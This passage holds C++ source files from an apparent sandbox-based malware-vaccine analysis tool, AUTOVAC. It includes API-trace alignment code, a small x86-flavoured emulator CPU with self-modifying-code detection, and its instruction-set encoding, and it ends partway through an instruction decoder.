                  const AlignmentOptions& options) {
  if (a.api_name != b.api_name) return false;
  if (options.use_caller_pc && a.caller_pc != b.caller_pc) return false;
  if (options.use_identifier &&
      a.resource_identifier != b.resource_identifier) {
    return false;
  }
  return true;
}

namespace {

// Greedy forward alignment for traces too large for the quadratic LCS:
// anchors each mutated call to the next matching natural call within a
// bounded look-ahead window. Linear time; the paper's own Algorithm 1 is
// this linear anchor search.
Alignment AlignGreedy(const trace::ApiTrace& natural,
                      const trace::ApiTrace& mutated,
                      const AlignmentOptions& options) {
  constexpr size_t kWindow = 256;
  Alignment alignment;
  size_t i = 0;
  for (size_t j = 0; j < mutated.calls.size(); ++j) {
    size_t found = SIZE_MAX;
    const size_t limit = std::min(natural.calls.size(), i + kWindow);
    for (size_t k = i; k < limit; ++k) {
      if (CallsAligned(natural.calls[k], mutated.calls[j], options)) {
        found = k;
        break;
      }
    }
    if (found == SIZE_MAX) {
      alignment.delta_mutated.push_back(static_cast<uint32_t>(j));
      continue;
    }
    for (size_t k = i; k < found; ++k) {
      alignment.delta_natural.push_back(static_cast<uint32_t>(k));
    }
    alignment.matches.emplace_back(static_cast<uint32_t>(found),
                                   static_cast<uint32_t>(j));
    i = found + 1;
  }
  for (size_t k = i; k < natural.calls.size(); ++k) {
    alignment.delta_natural.push_back(static_cast<uint32_t>(k));
  }
  return alignment;
}

}  // namespace

Alignment AlignTraces(const trace::ApiTrace& natural,
                      const trace::ApiTrace& mutated,
                      const AlignmentOptions& options) {
  const size_t n = natural.calls.size();
  const size_t m = mutated.calls.size();

  // Classic LCS for bounded traces; greedy anchor search beyond the cell
  // budget (~128 MB of table).
  constexpr size_t kMaxLcsCells = 32u * 1024 * 1024;
  if (n != 0 && m != 0 && (n + 1) > kMaxLcsCells / (m + 1)) {
    return AlignGreedy(natural, mutated, options);
  }
  std::vector<std::vector<uint32_t>> lcs(n + 1,
                                         std::vector<uint32_t>(m + 1, 0));
  for (size_t i = n; i-- > 0;) {
    for (size_t j = m; j-- > 0;) {
      if (CallsAligned(natural.calls[i], mutated.calls[j], options)) {
        lcs[i][j] = lcs[i + 1][j + 1] + 1;
      } else {
        lcs[i][j] = std::max(lcs[i + 1][j], lcs[i][j + 1]);
      }
    }
  }

  Alignment alignment;
  size_t i = 0;
  size_t j = 0;
  while (i < n && j < m) {
    if (CallsAligned(natural.calls[i], mutated.calls[j], options) &&
        lcs[i][j] == lcs[i + 1][j + 1] + 1) {
      alignment.matches.emplace_back(static_cast<uint32_t>(i),
                                     static_cast<uint32_t>(j));
      ++i;
      ++j;
    } else if (lcs[i + 1][j] >= lcs[i][j + 1]) {
      alignment.delta_natural.push_back(static_cast<uint32_t>(i));
      ++i;
    } else {
      alignment.delta_mutated.push_back(static_cast<uint32_t>(j));
      ++j;
    }
  }
  for (; i < n; ++i) alignment.delta_natural.push_back(static_cast<uint32_t>(i));
  for (; j < m; ++j) alignment.delta_mutated.push_back(static_cast<uint32_t>(j));
  return alignment;
}

}  // namespace autovac::analysis
