#include "vm/program.h"

#include "support/digest.h"

namespace autovac::vm {

void Program::LoadInto(Memory& memory) const {
  for (const DataBlob& blob : data) {
    memory.LoaderWrite(blob.address, blob.bytes);
  }
}

std::string Program::Digest() const {
  std::string serialized;
  serialized.reserve(code.size() * 8);
  for (const Instruction& inst : code) {
    serialized.push_back(static_cast<char>(inst.op));
    serialized.push_back(static_cast<char>(inst.r1));
    serialized.push_back(static_cast<char>(inst.r2));
    for (int shift = 0; shift < 64; shift += 8) {
      serialized.push_back(
          static_cast<char>((static_cast<uint64_t>(inst.imm) >> shift) & 0xFF));
    }
  }
  for (const DataBlob& blob : data) {
    serialized += blob.bytes;
  }
  return HexDigest128(serialized);
}

Result<uint32_t> Program::CodeSymbol(const std::string& label) const {
  auto it = code_symbols.find(label);
  if (it == code_symbols.end()) {
    return Status::NotFound("code symbol: " + label);
  }
  return it->second;
}

Result<uint32_t> Program::DataSymbol(const std::string& label) const {
  auto it = data_symbols.find(label);
  if (it == data_symbols.end()) {
    return Status::NotFound("data symbol: " + label);
  }
  return it->second;
}

}  // namespace autovac::vm
