#include "vm/cpu.h"

#include "support/metrics.h"
#include "support/strings.h"

namespace autovac::vm {
namespace {

// Cached registry handles: resolved once per process, then every flush is
// a handful of relaxed atomic adds.
struct VmMetrics {
  Counter* instructions;
  std::array<Counter*, kNumOpClasses> dispatch;
  std::array<Counter*, kNumStopReasons> stops;
  Counter* runs;
  Counter* smc_regions;
};

VmMetrics& GetVmMetrics() {
  static VmMetrics* metrics = [] {
    auto* m = new VmMetrics();
    MetricsRegistry& registry = GlobalMetrics();
    m->instructions = registry.GetCounter("vm.instructions_retired");
    for (size_t i = 0; i < kNumOpClasses; ++i) {
      m->dispatch[i] = registry.GetCounter(
          std::string("vm.dispatch.") +
          OpClassName(static_cast<OpClass>(i)));
    }
    for (size_t i = 0; i < kNumStopReasons; ++i) {
      m->stops[i] = registry.GetCounter(
          std::string("vm.stop.") +
          StopReasonName(static_cast<StopReason>(i)));
    }
    m->runs = registry.GetCounter("vm.runs");
    m->smc_regions = registry.GetCounter("vm.smc_regions");
    return m;
  }();
  return *metrics;
}

}  // namespace

const char* OpClassName(OpClass cls) {
  switch (cls) {
    case OpClass::kControl: return "control";
    case OpClass::kMove: return "move";
    case OpClass::kMemory: return "memory";
    case OpClass::kStack: return "stack";
    case OpClass::kAlu: return "alu";
    case OpClass::kCompare: return "compare";
    case OpClass::kBranch: return "branch";
    case OpClass::kCallRet: return "call";
    case OpClass::kSys: return "sys";
    case OpClass::kClassCount: break;
  }
  return "?";
}

OpClass ClassifyOp(Op op) {
  switch (op) {
    case Op::kNop: case Op::kHlt:
      return OpClass::kControl;
    case Op::kMovRI: case Op::kMovRR: case Op::kLea:
      return OpClass::kMove;
    case Op::kLoad: case Op::kStore: case Op::kLoadB: case Op::kStoreB:
      return OpClass::kMemory;
    case Op::kPushR: case Op::kPushI: case Op::kPopR:
      return OpClass::kStack;
    case Op::kAddRR: case Op::kAddRI: case Op::kSubRR: case Op::kSubRI:
    case Op::kXorRR: case Op::kXorRI: case Op::kAndRR: case Op::kAndRI:
    case Op::kOrRR: case Op::kOrRI: case Op::kMulRR: case Op::kMulRI:
    case Op::kShlRI: case Op::kShrRI: case Op::kNotR: case Op::kNegR:
    case Op::kIncR: case Op::kDecR:
      return OpClass::kAlu;
    case Op::kCmpRR: case Op::kCmpRI: case Op::kTestRR: case Op::kTestRI:
      return OpClass::kCompare;
    case Op::kJmp: case Op::kJz: case Op::kJnz: case Op::kJg: case Op::kJl:
    case Op::kJge: case Op::kJle:
      return OpClass::kBranch;
    case Op::kCall: case Op::kRet:
      return OpClass::kCallRet;
    case Op::kSys:
      return OpClass::kSys;
    case Op::kOpCount:
      break;
  }
  return OpClass::kControl;
}

const char* VmEventName(VmEvent event) {
  switch (event) {
    case VmEvent::kSelfModifyingCode: return "self-modifying-code";
  }
  return "?";
}

const char* StopReasonName(StopReason reason) {
  switch (reason) {
    case StopReason::kRunning: return "running";
    case StopReason::kHalted: return "halted";
    case StopReason::kExited: return "exited";
    case StopReason::kFault: return "fault";
    case StopReason::kBudgetExhausted: return "budget-exhausted";
    case StopReason::kCallDepthLimit: return "call-depth-limit";
    case StopReason::kApiCallLimit: return "api-call-limit";
    case StopReason::kTraceLimit: return "trace-limit";
  }
  return "?";
}

Cpu::Cpu(const Program& program, Memory& memory)
    : program_(program), memory_(memory) {
  set_reg(Reg::kEsp, kStackTop);
  set_reg(Reg::kEbp, kStackTop);
  pc_ = program.entry;
}

uint32_t Cpu::Arg(uint32_t i) const {
  uint32_t value = 0;
  const uint32_t addr = reg(Reg::kEsp) + 4 * i;
  if (memory_.Read32(addr, &value) != MemFault::kNone) return 0;
  return value;
}

StopReason Cpu::Run(uint64_t budget) {
  while (stop_reason_ == StopReason::kRunning) {
    if (cycles_used_ >= budget) {
      stop_reason_ = StopReason::kBudgetExhausted;
      break;
    }
    Step();
  }
  FlushMetrics();
  GetVmMetrics().runs->Increment();
  GetVmMetrics().stops[static_cast<size_t>(stop_reason_)]->Increment();
  return stop_reason_;
}

void Cpu::FlushMetrics() {
  VmMetrics& metrics = GetVmMetrics();
  if (instructions_retired_ != 0) {
    metrics.instructions->Increment(instructions_retired_);
    instructions_retired_ = 0;
  }
  if (smc_events_ != 0) {
    metrics.smc_regions->Increment(smc_events_);
    smc_events_ = 0;
  }
  for (size_t i = 0; i < kNumOpClasses; ++i) {
    if (dispatch_counts_[i] != 0) {
      metrics.dispatch[i]->Increment(dispatch_counts_[i]);
      dispatch_counts_[i] = 0;
    }
  }
}

CpuSnapshot Cpu::SnapshotAtSyscall() const {
  CpuSnapshot snap;
  snap.regs = regs_;
  snap.pc = current_pc_;
  snap.zf = zf_;
  snap.sf = sf_;
  snap.call_depth = call_depth_;
  // Un-charge the in-flight increments from the top of Step(): the
  // resumed CPU re-executes the whole `sys` instruction.
  snap.cycles_used = cycles_used_ - 1;
  snap.api_calls = api_calls_ - 1;
  return snap;
}

void Cpu::Restore(const CpuSnapshot& snap) {
  regs_ = snap.regs;
  pc_ = snap.pc;
  current_pc_ = snap.pc;
  zf_ = snap.zf;
  sf_ = snap.sf;
  call_depth_ = snap.call_depth;
  cycles_used_ = snap.cycles_used;
  api_calls_ = snap.api_calls;
  exit_requested_ = false;
  pending_stop_ = StopReason::kRunning;
  stop_reason_ = StopReason::kRunning;
  fault_.clear();
  instructions_retired_ = 0;
  smc_events_ = 0;
  dispatch_counts_.fill(0);
  // The restored Memory may hold older bytes at the same write
  // generations this cache was built against; drop it and re-decode.
  decode_cache_.clear();
}

StopReason Cpu::Fault(std::string message) {
  fault_ = std::move(message);
  stop_reason_ = StopReason::kFault;
  return stop_reason_;
}

bool Cpu::FetchFromMemory(Instruction* out) {
  if (pc_ % kEncodedInstrSize != 0) {
    Fault(StrFormat("misaligned code fetch at %#x", pc_));
    return false;
  }
  if (!Memory::InBounds(pc_, kEncodedInstrSize)) {
    Fault(StrFormat("code fetch out of bounds at %#x", pc_));
    return false;
  }
  const uint32_t page = Memory::PageOf(pc_);
  const uint32_t write_gen = memory_.page_write_gen(page);
  if (write_gen != memory_.page_exec_gen(page)) {
    // Write-then-execute: the page changed since it last ran. Stamp the
    // generation first so re-entrant observers see the armed state
    // cleared, then surface the event exactly once for this dirtying.
    memory_.set_page_exec_gen(page, write_gen);
    ++smc_events_;
    if (observer_ != nullptr) {
      observer_->OnVmEvent(*this, VmEvent::kSelfModifyingCode,
                           page * kCodePageSize, kCodePageSize);
    }
  }
  DecodedPage& entry = decode_cache_[page];
  if (!entry.populated || entry.gen != write_gen) {
    entry.gen = write_gen;
    entry.populated = true;
    entry.valid = 0;
    const std::string_view raw =
        memory_.RawView(page * kCodePageSize, kCodePageSize);
    for (uint32_t slot = 0; slot < entry.insts.size(); ++slot) {
      if (DecodeInstruction(reinterpret_cast<const uint8_t*>(raw.data()) +
                                slot * kEncodedInstrSize,
                            &entry.insts[slot])) {
        entry.valid |= 1u << slot;
      }
    }
  }
  const uint32_t slot = (pc_ % kCodePageSize) / kEncodedInstrSize;
  if ((entry.valid & (1u << slot)) == 0) {
    Fault(StrFormat("invalid instruction encoding at %#x", pc_));
    return false;
  }
  *out = entry.insts[slot];
  return true;
}

StopReason Cpu::Step() {
  if (stop_reason_ != StopReason::kRunning) return stop_reason_;
  const bool mem_mode = pc_ >= kMemExecBase;
  Instruction fetched;
  if (mem_mode) {
    if (!FetchFromMemory(&fetched)) return stop_reason_;
  } else if (pc_ >= program_.code.size()) {
    return Fault(StrFormat("pc out of range: %u", pc_));
  } else {
    fetched = program_.code[pc_];
  }
  const Instruction inst = fetched;
  current_pc_ = pc_;
  ++cycles_used_;
  ++instructions_retired_;
  ++dispatch_counts_[static_cast<size_t>(ClassifyOp(inst.op))];

  StepInfo step;
  step.pc = pc_;
  step.inst = inst;
  if (inst.r1 != Reg::kNone) step.u1 = reg(inst.r1);
  if (inst.r2 != Reg::kNone) step.u2 = reg(inst.r2);

  const auto imm32 = static_cast<uint32_t>(inst.imm);
  // Static code advances by instruction index; in-memory code by encoded
  // instruction width.
  uint32_t next_pc = pc_ + (mem_mode ? kEncodedInstrSize : 1);

  auto base2 = [&]() -> uint32_t {
    return (inst.r2 == Reg::kNone ? 0u : reg(inst.r2)) + imm32;
  };
  auto base1 = [&]() -> uint32_t {
    return (inst.r1 == Reg::kNone ? 0u : reg(inst.r1)) + imm32;
  };
  auto push32 = [&](uint32_t value) -> bool {
    const uint32_t esp = reg(Reg::kEsp) - 4;
    if (esp < kStackBase) {
      Fault("stack overflow");
      return false;
    }
    if (memory_.Write32(esp, value) != MemFault::kNone) {
      Fault(StrFormat("bad stack write at %#x", esp));
      return false;
    }
    set_reg(Reg::kEsp, esp);
    step.mem_addr = esp;
    step.mem_size = 4;
    return true;
  };
  auto pop32 = [&](uint32_t* value) -> bool {
    const uint32_t esp = reg(Reg::kEsp);
    if (memory_.Read32(esp, value) != MemFault::kNone) {
      Fault(StrFormat("bad stack read at %#x", esp));
      return false;
    }
    set_reg(Reg::kEsp, esp + 4);
    step.mem_addr = esp;
    step.mem_size = 4;
    return true;
  };
  auto set_flags = [&](uint32_t value) {
    zf_ = value == 0;
    sf_ = (value >> 31) != 0;
  };
  auto alu = [&](uint32_t rhs) -> uint32_t {
    const uint32_t lhs = step.u1;
    switch (inst.op) {
      case Op::kAddRR: case Op::kAddRI: return lhs + rhs;
      case Op::kSubRR: case Op::kSubRI: return lhs - rhs;
      case Op::kXorRR: case Op::kXorRI: return lhs ^ rhs;
      case Op::kAndRR: case Op::kAndRI: return lhs & rhs;
      case Op::kOrRR: case Op::kOrRI: return lhs | rhs;
      case Op::kMulRR: case Op::kMulRI: return lhs * rhs;
      case Op::kShlRI: return rhs >= 32 ? 0 : lhs << rhs;
      case Op::kShrRI: return rhs >= 32 ? 0 : lhs >> rhs;
      default: AUTOVAC_CHECK_MSG(false, "alu on non-alu op"); return 0;
    }
  };
  // Branch targets: absolute in static code (imm may also name a memory
  // address >= kMemExecBase, which is how an unpacker enters its
  // payload); pc-relative byte offsets in memory mode so packed payloads
  // stay position-independent.
  auto branch_to = [&](bool taken) {
    step.branch_taken = taken;
    if (taken) next_pc = mem_mode ? pc_ + imm32 : imm32;
  };

  switch (inst.op) {
    case Op::kNop:
      break;
    case Op::kHlt:
      stop_reason_ = StopReason::kHalted;
      break;
    case Op::kMovRI:
      set_reg(inst.r1, imm32);
      step.result = imm32;
      break;
    case Op::kMovRR:
      set_reg(inst.r1, step.u2);
      step.result = step.u2;
      break;
    case Op::kLea: {
      const uint32_t value = base2();
      set_reg(inst.r1, value);
      step.result = value;
      break;
    }
    case Op::kLoad: {
      const uint32_t addr = base2();
      uint32_t value = 0;
      if (memory_.Read32(addr, &value) != MemFault::kNone) {
        return Fault(StrFormat("bad load at %#x (pc=%u)", addr, pc_));
      }
      set_reg(inst.r1, value);
      step.mem_addr = addr;
      step.mem_size = 4;
      step.result = value;
      break;
    }
    case Op::kLoadB: {
      const uint32_t addr = base2();
      uint32_t value = 0;
      if (memory_.Read8(addr, &value) != MemFault::kNone) {
        return Fault(StrFormat("bad loadb at %#x (pc=%u)", addr, pc_));
      }
      set_reg(inst.r1, value);
      step.mem_addr = addr;
      step.mem_size = 1;
      step.result = value;
      break;
    }
    case Op::kStore: {
      const uint32_t addr = base1();
      if (memory_.Write32(addr, step.u2) != MemFault::kNone) {
        return Fault(StrFormat("bad store at %#x (pc=%u)", addr, pc_));
      }
      step.mem_addr = addr;
      step.mem_size = 4;
      step.result = step.u2;
      break;
    }
    case Op::kStoreB: {
      const uint32_t addr = base1();
      if (memory_.Write8(addr, step.u2 & 0xFF) != MemFault::kNone) {
        return Fault(StrFormat("bad storeb at %#x (pc=%u)", addr, pc_));
      }
      step.mem_addr = addr;
      step.mem_size = 1;
      step.result = step.u2 & 0xFF;
      break;
    }
    case Op::kPushR:
      if (!push32(step.u1)) return stop_reason_;
      step.result = step.u1;
      break;
    case Op::kPushI:
      if (!push32(imm32)) return stop_reason_;
      step.result = imm32;
      break;
    case Op::kPopR: {
      uint32_t value = 0;
      if (!pop32(&value)) return stop_reason_;
      set_reg(inst.r1, value);
      step.result = value;
      break;
    }
    case Op::kAddRR: case Op::kSubRR: case Op::kXorRR: case Op::kAndRR:
    case Op::kOrRR: case Op::kMulRR: {
      const uint32_t value = alu(step.u2);
      set_reg(inst.r1, value);
      set_flags(value);
      step.result = value;
      break;
    }
    case Op::kAddRI: case Op::kSubRI: case Op::kXorRI: case Op::kAndRI:
    case Op::kOrRI: case Op::kMulRI: case Op::kShlRI: case Op::kShrRI: {
      const uint32_t value = alu(imm32);
      set_reg(inst.r1, value);
      set_flags(value);
      step.result = value;
      break;
    }
    case Op::kNotR: {
      const uint32_t value = ~step.u1;
      set_reg(inst.r1, value);
      set_flags(value);
      step.result = value;
      break;
    }
    case Op::kNegR: {
      const uint32_t value = 0u - step.u1;
      set_reg(inst.r1, value);
      set_flags(value);
      step.result = value;
      break;
    }
    case Op::kIncR: {
      const uint32_t value = step.u1 + 1;
      set_reg(inst.r1, value);
      set_flags(value);
      step.result = value;
      break;
    }
    case Op::kDecR: {
      const uint32_t value = step.u1 - 1;
      set_reg(inst.r1, value);
      set_flags(value);
      step.result = value;
      break;
    }
    case Op::kCmpRR:
      set_flags(step.u1 - step.u2);
      break;
    case Op::kCmpRI:
      set_flags(step.u1 - imm32);
      break;
    case Op::kTestRR:
      set_flags(step.u1 & step.u2);
      break;
    case Op::kTestRI:
      set_flags(step.u1 & imm32);
      break;
    case Op::kJmp:
      branch_to(true);
      break;
    case Op::kJz:
      branch_to(zf_);
      break;
    case Op::kJnz:
      branch_to(!zf_);
      break;
    // Signed comparisons approximated via SF/ZF (no OF lane; operands in
    // the sandbox stay far from overflow boundaries).
    case Op::kJg:
      branch_to(!zf_ && !sf_);
      break;
    case Op::kJl:
      branch_to(sf_);
      break;
    case Op::kJge:
      branch_to(!sf_);
      break;
    case Op::kJle:
      branch_to(zf_ || sf_);
      break;
    case Op::kCall:
      // The pushed return value is mode-typed like pc itself: an index
      // for static calls, an address for in-memory calls. `ret` pops it
      // blind, which is exactly what lets a payload return across modes.
      if (!push32(pc_ + (mem_mode ? kEncodedInstrSize : 1))) {
        return stop_reason_;
      }
      branch_to(true);
      ++call_depth_;
      if (call_depth_limit_ != 0 && call_depth_ > call_depth_limit_) {
        pending_stop_ = StopReason::kCallDepthLimit;
      }
      break;
    case Op::kRet: {
      uint32_t target = 0;
      if (!pop32(&target)) return stop_reason_;
      step.branch_taken = true;
      next_pc = target;
      if (call_depth_ > 0) --call_depth_;
      break;
    }
    case Op::kSys:
      // Expose the stack pointer at trap time so offline analyses can
      // locate the call's argument slots.
      step.u1 = reg(Reg::kEsp);
      ++api_calls_;
      if (api_call_limit_ != 0 && api_calls_ > api_call_limit_) {
        pending_stop_ = StopReason::kApiCallLimit;
        break;  // over budget: the trap is not delivered
      }
      if (syscall_ != nullptr) {
        syscall_->OnSyscall(*this, inst.imm);
        step.result = reg(Reg::kEax);
      }
      break;
    case Op::kOpCount:
      return Fault("invalid opcode");
  }

  if (observer_ != nullptr) observer_->OnStep(*this, step);

  if (exit_requested_ && stop_reason_ == StopReason::kRunning) {
    stop_reason_ = StopReason::kExited;
  }
  if (pending_stop_ != StopReason::kRunning &&
      stop_reason_ == StopReason::kRunning) {
    stop_reason_ = pending_stop_;
  }
  if (stop_reason_ == StopReason::kRunning) pc_ = next_pc;
  return stop_reason_;
}

}  // namespace autovac::vm
