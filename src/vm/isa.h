// Instruction set of the AUTOVAC sandbox VM.
//
// A compact 32-bit register machine with x86-flavoured semantics: eight
// GPRs, ZF/SF flags set by cmp/test, push/pop/call/ret through a stack in
// memory, and a `sys` instruction that traps to the sandbox kernel. This
// is the abstraction level a dynamic binary instrumentation framework
// (DynamoRIO in the paper) exposes: every retired instruction, its
// operands and its memory effects are observable.
#pragma once

#include <array>
#include <cstdint>
#include <string_view>

namespace autovac::vm {

enum class Reg : uint8_t {
  kEax = 0,
  kEbx,
  kEcx,
  kEdx,
  kEsi,
  kEdi,
  kEbp,
  kEsp,
  kRegCount,
  // Pseudo-register denoting "no base register" in memory operands.
  kNone = 255,
};

inline constexpr size_t kNumRegs = static_cast<size_t>(Reg::kRegCount);

[[nodiscard]] std::string_view RegName(Reg reg);

enum class Op : uint8_t {
  kNop = 0,
  kHlt,        // stop execution (normal completion)
  kMovRI,      // r1 <- imm
  kMovRR,      // r1 <- r2
  kLoad,       // r1 <- mem32[r2 + imm]
  kStore,      // mem32[r1 + imm] <- r2
  kLoadB,      // r1 <- zero_extend(mem8[r2 + imm])
  kStoreB,     // mem8[r1 + imm] <- low8(r2)
  kLea,        // r1 <- r2 + imm
  kPushR,      // push r1
  kPushI,      // push imm
  kPopR,       // r1 <- pop
  kAddRR, kAddRI,
  kSubRR, kSubRI,
  kXorRR, kXorRI,
  kAndRR, kAndRI,
  kOrRR,  kOrRI,
  kMulRR, kMulRI,
  kShlRI, kShrRI,
  kNotR, kNegR, kIncR, kDecR,
  kCmpRR, kCmpRI,    // set ZF/SF from r1 - operand
  kTestRR, kTestRI,  // set ZF/SF from r1 & operand
  kJmp,   // pc <- imm
  kJz, kJnz, kJg, kJl, kJge, kJle,  // conditional, signed
  kCall,  // push pc+1; pc <- imm
  kRet,   // pc <- pop
  kSys,   // trap to kernel; imm = ApiId; args at [esp], [esp+4], ...
  kOpCount,
};

[[nodiscard]] std::string_view OpName(Op op);

// One decoded instruction. The VM executes a vector<Instruction>; the
// program counter is an index into that vector.
struct Instruction {
  Op op = Op::kNop;
  Reg r1 = Reg::kNone;
  Reg r2 = Reg::kNone;
  int64_t imm = 0;

  friend bool operator==(const Instruction&, const Instruction&) = default;
};

// Operand-usage classification, derivable from the opcode alone; the taint
// engine and the backward slicer share it.
struct OpInfo {
  bool reads_r1 = false;
  bool writes_r1 = false;
  bool reads_r2 = false;
  bool reads_mem = false;   // a memory load (address from r2+imm or esp)
  bool writes_mem = false;  // a memory store
  bool reads_flags = false;
  bool writes_flags = false;
  bool is_branch = false;
  bool is_predicate = false;  // cmp/test — the paper's vaccine trigger
};

[[nodiscard]] const OpInfo& GetOpInfo(Op op);

// --- in-memory instruction encoding ------------------------------------
// Runtime-generated code (unpacker payloads) lives in guest memory as a
// fixed 8-byte little-endian encoding the CPU can decode when the program
// counter points above the static code segment:
//
//   byte 0   opcode          (must be < kOpCount)
//   byte 1   r1              (0..7 or 255 = kNone)
//   byte 2   r2              (0..7 or 255 = kNone)
//   byte 3   reserved, 0
//   bytes 4-7  imm32, little-endian, sign-extended on decode
//
// Control flow in this encoding is pc-relative (byte offsets), so packed
// payloads are position-independent and a packer can place them anywhere
// in .data or heap.
inline constexpr uint32_t kEncodedInstrSize = 8;

[[nodiscard]] std::array<uint8_t, kEncodedInstrSize> EncodeInstruction(
    const Instruction& inst);

// Returns false (leaving `out` untouched) when the bytes are not a valid
// encoding: bad opcode, bad register byte, or nonzero reserved byte.
[[nodiscard]] bool DecodeInstruction(const uint8_t* bytes, Instruction* out);

}  // namespace autovac::vm
