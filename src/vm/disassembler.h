// Renders instructions and programs back to assembler syntax; used by the
// slice extractor (human-auditable vaccine slices) and in diagnostics.
#pragma once

#include <functional>
#include <optional>
#include <string>

#include "vm/program.h"

namespace autovac::vm {

// Optional reverse API-name lookup for `sys` immediates.
using ApiNamer = std::function<std::optional<std::string>(int64_t id)>;

[[nodiscard]] std::string DisassembleInstruction(const Instruction& inst,
                                                 const ApiNamer& namer = {});

// Full listing with pc prefixes and label comments.
[[nodiscard]] std::string DisassembleProgram(const Program& program,
                                             const ApiNamer& namer = {});

}  // namespace autovac::vm
