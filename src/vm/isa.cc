#include "vm/isa.h"

#include <array>

#include "support/status.h"

namespace autovac::vm {

std::string_view RegName(Reg reg) {
  switch (reg) {
    case Reg::kEax: return "eax";
    case Reg::kEbx: return "ebx";
    case Reg::kEcx: return "ecx";
    case Reg::kEdx: return "edx";
    case Reg::kEsi: return "esi";
    case Reg::kEdi: return "edi";
    case Reg::kEbp: return "ebp";
    case Reg::kEsp: return "esp";
    case Reg::kNone: return "<none>";
    default: return "<bad>";
  }
}

std::string_view OpName(Op op) {
  switch (op) {
    case Op::kNop: return "nop";
    case Op::kHlt: return "hlt";
    case Op::kMovRI: return "mov";
    case Op::kMovRR: return "mov";
    case Op::kLoad: return "load";
    case Op::kStore: return "store";
    case Op::kLoadB: return "loadb";
    case Op::kStoreB: return "storeb";
    case Op::kLea: return "lea";
    case Op::kPushR: return "push";
    case Op::kPushI: return "push";
    case Op::kPopR: return "pop";
    case Op::kAddRR: case Op::kAddRI: return "add";
    case Op::kSubRR: case Op::kSubRI: return "sub";
    case Op::kXorRR: case Op::kXorRI: return "xor";
    case Op::kAndRR: case Op::kAndRI: return "and";
    case Op::kOrRR: case Op::kOrRI: return "or";
    case Op::kMulRR: case Op::kMulRI: return "mul";
    case Op::kShlRI: return "shl";
    case Op::kShrRI: return "shr";
    case Op::kNotR: return "not";
    case Op::kNegR: return "neg";
    case Op::kIncR: return "inc";
    case Op::kDecR: return "dec";
    case Op::kCmpRR: case Op::kCmpRI: return "cmp";
    case Op::kTestRR: case Op::kTestRI: return "test";
    case Op::kJmp: return "jmp";
    case Op::kJz: return "jz";
    case Op::kJnz: return "jnz";
    case Op::kJg: return "jg";
    case Op::kJl: return "jl";
    case Op::kJge: return "jge";
    case Op::kJle: return "jle";
    case Op::kCall: return "call";
    case Op::kRet: return "ret";
    case Op::kSys: return "sys";
    case Op::kOpCount: break;
  }
  return "<bad>";
}

namespace {

std::array<OpInfo, static_cast<size_t>(Op::kOpCount)> BuildOpInfoTable() {
  std::array<OpInfo, static_cast<size_t>(Op::kOpCount)> table{};
  auto set = [&table](Op op, OpInfo info) {
    table[static_cast<size_t>(op)] = info;
  };
  // {reads_r1, writes_r1, reads_r2, reads_mem, writes_mem,
  //  reads_flags, writes_flags, is_branch, is_predicate}
  set(Op::kMovRI, {.writes_r1 = true});
  set(Op::kMovRR, {.writes_r1 = true, .reads_r2 = true});
  set(Op::kLoad, {.writes_r1 = true, .reads_r2 = true, .reads_mem = true});
  set(Op::kLoadB, {.writes_r1 = true, .reads_r2 = true, .reads_mem = true});
  set(Op::kStore, {.reads_r1 = true, .reads_r2 = true, .writes_mem = true});
  set(Op::kStoreB, {.reads_r1 = true, .reads_r2 = true, .writes_mem = true});
  set(Op::kLea, {.writes_r1 = true, .reads_r2 = true});
  set(Op::kPushR, {.reads_r1 = true, .writes_mem = true});
  set(Op::kPushI, {.writes_mem = true});
  set(Op::kPopR, {.writes_r1 = true, .reads_mem = true});
  const OpInfo alu_rr{.reads_r1 = true, .writes_r1 = true, .reads_r2 = true,
                      .writes_flags = true};
  const OpInfo alu_ri{.reads_r1 = true, .writes_r1 = true,
                      .writes_flags = true};
  for (Op op : {Op::kAddRR, Op::kSubRR, Op::kXorRR, Op::kAndRR, Op::kOrRR,
                Op::kMulRR}) {
    set(op, alu_rr);
  }
  for (Op op : {Op::kAddRI, Op::kSubRI, Op::kXorRI, Op::kAndRI, Op::kOrRI,
                Op::kMulRI, Op::kShlRI, Op::kShrRI}) {
    set(op, alu_ri);
  }
  const OpInfo unary{.reads_r1 = true, .writes_r1 = true, .writes_flags = true};
  for (Op op : {Op::kNotR, Op::kNegR, Op::kIncR, Op::kDecR}) set(op, unary);
  set(Op::kCmpRR, {.reads_r1 = true, .reads_r2 = true, .writes_flags = true,
                   .is_predicate = true});
  set(Op::kCmpRI, {.reads_r1 = true, .writes_flags = true,
                   .is_predicate = true});
  set(Op::kTestRR, {.reads_r1 = true, .reads_r2 = true, .writes_flags = true,
                    .is_predicate = true});
  set(Op::kTestRI, {.reads_r1 = true, .writes_flags = true,
                    .is_predicate = true});
  set(Op::kJmp, {.is_branch = true});
  for (Op op : {Op::kJz, Op::kJnz, Op::kJg, Op::kJl, Op::kJge, Op::kJle}) {
    set(op, {.reads_flags = true, .is_branch = true});
  }
  set(Op::kCall, {.writes_mem = true, .is_branch = true});
  set(Op::kRet, {.reads_mem = true, .is_branch = true});
  set(Op::kSys, {});
  return table;
}

}  // namespace

const OpInfo& GetOpInfo(Op op) {
  static const auto table = BuildOpInfoTable();
  const auto index = static_cast<size_t>(op);
  AUTOVAC_CHECK_MSG(index < table.size(), "bad opcode");
  return table[index];
}

namespace {

bool ValidRegByte(uint8_t byte) {
  return byte < static_cast<uint8_t>(Reg::kRegCount) ||
         byte == static_cast<uint8_t>(Reg::kNone);
}

}  // namespace

std::array<uint8_t, kEncodedInstrSize> EncodeInstruction(
    const Instruction& inst) {
  std::array<uint8_t, kEncodedInstrSize> out{};
  out[0] = static_cast<uint8_t>(inst.op);
  out[1] = static_cast<uint8_t>(inst.r1);
  out[2] = static_cast<uint8_t>(inst.r2);
  out[3] = 0;
  const auto imm = static_cast<uint32_t>(inst.imm);
  out[4] = static_cast<uint8_t>(imm);
  out[5] = static_cast<uint8_t>(imm >> 8);
  out[6] = static_cast<uint8_t>(imm >> 16);
  out[7] = static_cast<uint8_t>(imm >> 24);
  return out;
}

bool DecodeInstruction(const uint8_t* bytes, Instruction* out) {
  if (bytes[0] >= static_cast<uint8_t>(Op::kOpCount)) return false;
  if (!ValidRegByte(bytes[1]) || !ValidRegByte(bytes[2])) return false;
  if (bytes[3] != 0) return false;
  const uint32_t imm = static_cast<uint32_t>(bytes[4]) |
                       (static_cast<uint32_t>(bytes[5]) << 8) |
                       (static_cast<uint32_t>(bytes[6]) << 16) |
                       (static_cast<uint32_t>(bytes[7]) << 24);
  out->op = static_cast<Op>(bytes[0]);
  out->r1 = static_cast<Reg>(bytes[1]);
